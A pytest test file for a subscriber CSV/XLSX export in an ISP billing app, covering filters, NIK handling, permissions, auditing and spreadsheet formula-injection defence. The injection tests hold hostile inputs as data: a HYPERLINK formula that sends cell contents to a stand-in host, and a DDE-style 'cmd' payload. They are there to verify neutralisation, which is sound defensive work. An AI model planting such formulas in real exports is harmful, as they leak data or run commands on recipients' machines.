"""Subscriber export: CSV and Excel content, filters, formula injection, NIK, audit."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from fibernode import clock
from fibernode.db import new_session
from fibernode.models import ActivityLog, Customer, Package, User
from fibernode.services import customers, exports
from fibernode.services.errors import PermissionDenied, ValidationFailed
from fibernode.services.validation import phone_problem

# The spec's import header ("Import CSV Pelanggan"), word for word.
SPEC_IMPORT_HEADER = ("nama,telepon,diskon,tanggal,area,paket_nama,paket_tarif,total_bayar,"
                      "nik,tanggal_register")
NIK = "3201234567890001"
BOM = b"\xef\xbb\xbf"


def export(actor, fmt="csv", **filters) -> tuple[int, bytes]:
    out = io.BytesIO()
    count = exports.export_customers(actor, fmt, out, **filters)
    return count, out.getvalue()


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def names(data: bytes) -> list[str]:
    return [r[0] for r in csv_rows(data)[1:]]


def customer_id(name: str):
    with new_session() as s:
        return s.exec(select(Customer.id).where(Customer.name == name)).one()


@pytest.fixture
def w(world):
    """The seeded world (short name: these tests use it on nearly every line)."""
    return world


def pkg_id(name: str):
    with new_session() as s:
        return s.exec(select(Package.id).where(Package.name == name)).one()


def export_logs() -> list[ActivityLog]:
    with new_session() as s:
        return list(s.exec(select(ActivityLog).where(ActivityLog.action == "customer.export")
                           .order_by(ActivityLog.created_at)).all())


# --- CSV -----------------------------------------------------------------------------------


def test_csv_content_exactly(w):
    ahmad = customer_id("Ahmad Fauzi")
    customers.update_customer(w.admin, ahmad, nik=NIK, address="Jl. Mawar 1, RT 02",
                              notes='Rumah "pojok"\nlantai 2',
                              register_date=date(2025, 1, 15))
    customers.set_isolated(w.admin, customer_id("Dewi Lestari"), True, "Telat bayar")
    today = clock.today().isoformat()

    count, data = export(w.admin)

    assert count == 3
    assert data.startswith(BOM) and not data.startswith(BOM * 2)
    assert data.decode("utf-8-sig") == (
        "nama,telepon,diskon,tanggal,area,paket_nama,paket_tarif,total_bayar,nik,"
        "tanggal_register,status,alamat,catatan\r\n"
        "Ahmad Fauzi,6281234567890,0,5,WiFi Sukamaju,Paket 10 Mbps,100000,100000,"
        f'{NIK},2025-01-15,Aktif,"Jl. Mawar 1, RT 02","Rumah ""pojok""\nlantai 2"\r\n'
        "Dewi Lestari,6289876543210,10000,10,WiFi Sukamaju,Paket 20 Mbps,150000,140000,,"
        f"{today},Isolir,,\r\n"
        "Rudi Hartono,6281333444555,0,15,FiberNode Pusat,Paket 50 Mbps,250000,250000,,"
        f"{today},Aktif,,\r\n"
    )


def test_csv_follows_the_list_filters_and_sort(w):
    customers.set_isolated(w.admin, customer_id("Dewi Lestari"), True, "Telat bayar")
    mitra1 = w.mitra_a.user_id

    assert names(export(w.admin, status="isolated")[1]) == ["Dewi Lestari"]
    assert names(export(w.admin, status="active")[1]) == ["Ahmad Fauzi", "Rudi Hartono"]
    assert names(export(w.admin, owner_id=mitra1)[1]) == ["Ahmad Fauzi", "Dewi Lestari"]
    assert names(export(w.admin, search="rudi")[1]) == ["Rudi Hartono"]
    assert names(export(w.admin, search="0898765")[1]) == ["Dewi Lestari"]  # phone digits
    assert names(export(w.admin, package_id=pkg_id("Paket 10 Mbps"))[1]) == ["Ahmad Fauzi"]
    assert names(export(w.admin, billing_date=15)[1]) == ["Rudi Hartono"]
    assert names(export(w.admin, sort="-total_bill")[1]) == [
        "Rudi Hartono", "Dewi Lestari", "Ahmad Fauzi"]
    count, data = export(w.admin, owner_id=mitra1, status="active")
    assert (count, names(data)) == (1, ["Ahmad Fauzi"])
    # Nothing matches: just the header.
    count, data = export(w.admin, search="tidak ada")
    assert count == 0 and csv_rows(data) == [list(exports.COLUMNS)]
    # The same rows, in the same order, as the list with the same filter.
    for filters in ({}, {"sort": "-name"}, {"owner_id": mitra1}, {"status": "isolated"}):
        listed = [c.name for c in customers.list_customers(w.admin, **filters).items]
        assert names(export(w.admin, **filters)[1]) == listed


def test_bad_filters_are_refused_like_the_list(w):
    with pytest.raises(ValidationFailed) as exc:
        export(w.admin, status="hilang")
    assert exc.value.details == {"status": "Status pelanggan tidak dikenal."}
    with pytest.raises(ValidationFailed):
        export(w.admin, sort="password")
    assert export_logs() == []


def test_rows_are_streamed_in_batches(w, monkeypatch):
    for i in range(7):
        customers.create_customer(w.admin, name=f"Massal {i}", phone=f"08130000000{i}",
                                  package_id=pkg_id("Paket 10 Mbps"), billing_date=3)
    monkeypatch.setattr(exports, "STREAM_BATCH", 2)
    count, data = export(w.admin, search="massal")
    assert count == 7 and names(data) == [f"Massal {i}" for i in range(7)]
    count, data = export(w.admin, "xlsx", search="massal")
    ws = load_workbook(io.BytesIO(data))["Pelanggan"]
    assert count == 7 and ws.max_row == 8


def test_nik_is_exported_decrypted(w):
    customers.update_customer(w.admin, customer_id("Rudi Hartono"), nik="3201 2345 6789 0009")
    rows = {r[0]: r for r in csv_rows(export(w.admin)[1])[1:]}
    nik = exports.COLUMNS.index("nik")
    assert rows["Rudi Hartono"][nik] == "3201234567890009"
    assert rows["Ahmad Fauzi"][nik] == ""
    ws = load_workbook(io.BytesIO(export(w.admin, "xlsx", search="rudi")[1]))["Pelanggan"]
    cell = ws.cell(2, nik + 1)
    assert (cell.value, cell.data_type) == ("3201234567890009", "s")


# --- formula injection -------------------------------------------------------------------


HOSTILE = {
    "name": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "address": "+62 jalan (bukan nomor)",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def add_hostile(w):
    return customers.create_customer(w.admin, phone="081277778888",
                                     package_id=pkg_id("Paket 10 Mbps"), billing_date=7,
                                     **HOSTILE)


@pytest.mark.parametrize(("text", "expected"), [
    ("=1+1", "'=1+1"), ("+628123", "'+628123"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Budi", "Budi"), ("", ""), ("a=1", "a=1"),
    ("'=1", "'=1"),
])
def test_neutralise(text, expected):
    assert exports.neutralise(text) == expected


def test_csv_neutralises_formulas(w):
    add_hostile(w)
    customers.create_customer(w.admin, name="-Minus", phone="081277779999",
                              package_id=pkg_id("Paket 10 Mbps"), billing_date=7)
    rows = csv_rows(export(w.admin, search="8127777")[1])
    hostile = next(r for r in rows if "HYPERLINK" in r[0])
    cols = {c: i for i, c in enumerate(exports.COLUMNS)}
    assert hostile[cols["nama"]] == "'" + HOSTILE["name"]
    assert hostile[cols["alamat"]] == "'" + HOSTILE["address"]
    assert hostile[cols["catatan"]] == "'" + HOSTILE["notes"]
    # Phones are digits and amounts stay plain numbers.
    assert (hostile[cols["telepon"]], hostile[cols["diskon"]], hostile[cols["total_bayar"]]) == (
        "6281277778888", "0", "100000")
    assert "'-Minus" in {r[0] for r in rows}


def test_xlsx_never_stores_a_formula(w):
    add_hostile(w)
    data = export(w.admin, "xlsx", search="hyperlink")[1]
    ws = load_workbook(io.BytesIO(data))["Pelanggan"]
    cells = {ws.cell(1, i + 1).value: ws.cell(2, i + 1) for i in range(len(exports.COLUMNS))}
    for col, field in (("nama", "name"), ("alamat", "address"), ("catatan", "notes")):
        assert cells[col].value == "'" + HOSTILE[field]
        assert cells[col].data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets)


# --- XLSX ----------------------------------------------------------------------------------


def test_xlsx_is_typed_with_a_frozen_bold_header(w):
    customers.update_customer(w.admin, customer_id("Dewi Lestari"),
                              register_date=date(2025, 2, 1), address="Jl. Melati")
    count, data = export(w.admin, "xlsx", owner_id=w.mitra_a.user_id)
    assert count == 2 and data[:2] == b"PK"

    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Pelanggan"]
    ws = wb["Pelanggan"]
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert header == list(exports.COLUMNS)
    assert all(c.font.bold for c in ws[1])
    assert ws.column_dimensions["A"].width == exports.WIDTHS["nama"]
    assert ws.column_dimensions["L"].width == exports.WIDTHS["alamat"]
    assert ws.max_row == 3

    dewi = {h: c for h, c in zip(header, ws[3], strict=True)}
    assert dewi["nama"].value == "Dewi Lestari"
    # Phone and NIK are text, so Excel keeps every digit.
    assert (dewi["telepon"].value, dewi["telepon"].data_type) == ("6289876543210", "s")
    for col, value in (("diskon", 10_000), ("paket_tarif", 150_000), ("total_bayar", 140_000)):
        assert dewi[col].value == value and isinstance(dewi[col].value, int)
        assert dewi[col].number_format == '"Rp" #,##0'
    assert dewi["tanggal"].value == 10
    assert dewi["tanggal_register"].value == datetime(2025, 2, 1)
    assert dewi["tanggal_register"].is_date
    assert dewi["status"].value == "Aktif" and dewi["alamat"].value == "Jl. Melati"
    assert dewi["catatan"].value in (None, "")


# --- permissions, audit, names -----------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_mitra_may_not_export(w, fmt):
    out = io.BytesIO()
    with pytest.raises(PermissionDenied):
        exports.export_customers(w.mitra_a, fmt, out)
    with pytest.raises(PermissionDenied):
        exports.export_customers(w.mitra_a, fmt, out, owner_id=w.mitra_a.user_id)
    assert out.getvalue() == b""
    assert export_logs() == []


def test_unknown_format(w):
    out = io.BytesIO()
    with pytest.raises(ValidationFailed) as exc:
        exports.export_customers(w.admin, "pdf", out)
    assert exc.value.details == {"format": "Format ekspor harus csv atau xlsx."}
    assert out.getvalue() == b"" and export_logs() == []
    with pytest.raises(ValidationFailed):
        exports.export_filename("pdf")


def test_export_is_audited_with_format_filter_and_count(w):
    export(w.admin, owner_id=w.mitra_a.user_id, search=" dewi ")
    export(w.admin, "xlsx", status="active", sort="-name")
    first, second = export_logs()
    assert (first.user_id, first.resource, first.resource_id) == (w.admin.user_id,
                                                                  "customers", None)
    assert first.meta == {"format": "csv", "rows": 1, "filter": {
        "search": " dewi ", "status": None, "package_id": None,
        "owner_id": str(w.mitra_a.user_id), "billing_date": None, "sort": "name"}}
    assert second.meta["format"] == "xlsx" and second.meta["rows"] == 3
    assert second.meta["filter"]["status"] == "active"
    assert second.meta["filter"]["sort"] == "-name"
    # Personal data is exported, but never copied into the audit trail.
    customers.update_customer(w.admin, customer_id("Ahmad Fauzi"), nik=NIK)
    export(w.admin)
    assert NIK not in str(export_logs()[-1].meta)


def test_export_filename(monkeypatch):
    monkeypatch.setattr(clock, "today", lambda: date(2026, 11, 21))
    assert exports.export_filename("csv") == "pelanggan-2026-11-21.csv"
    assert exports.export_filename("XLSX") == "pelanggan-2026-11-21.xlsx"


# --- round trip ----------------------------------------------------------------------------


def test_csv_header_is_the_import_header_and_rows_follow_the_import_rules(w):
    customers.update_customer(w.admin, customer_id("Dewi Lestari"), nik=NIK)
    rows = csv_rows(export(w.admin)[1])
    assert ",".join(rows[0][:len(exports.IMPORT_COLUMNS)]) == SPEC_IMPORT_HEADER
    assert ",".join(exports.IMPORT_COLUMNS) == SPEC_IMPORT_HEADER

    with new_session() as s:
        owners = {u.business_name for u in s.exec(select(User)).all()}
        prices = {p.name: p.price for p in s.exec(select(Package)).all()}
    records = list(csv.DictReader(io.StringIO(
        export(w.admin)[1].decode("utf-8-sig"), newline="")))
    assert len(records) == 3
    for r in records:
        assert phone_problem(r["telepon"]) is None
        assert 1 <= int(r["tanggal"]) <= 28
        assert r["area"] in owners
        assert prices[r["paket_nama"]] == int(r["paket_tarif"])
        assert int(r["total_bayar"]) == int(r["paket_tarif"]) - int(r["diskon"])
        assert r["nik"] == "" or re.fullmatch(r"\d{16}", r["nik"])
        date.fromisoformat(r["tanggal_register"])


@pytest.mark.parametrize("text", ["=1+1", "+62 812", "-5", "@SUM(A1)", "\tx", "Budi", "'quoted"])
def test_neutralise_round_trips_through_the_import_parser(text):
    from fibernode.services.exports import neutralise, unneutralise

    assert unneutralise(neutralise(text)) == text
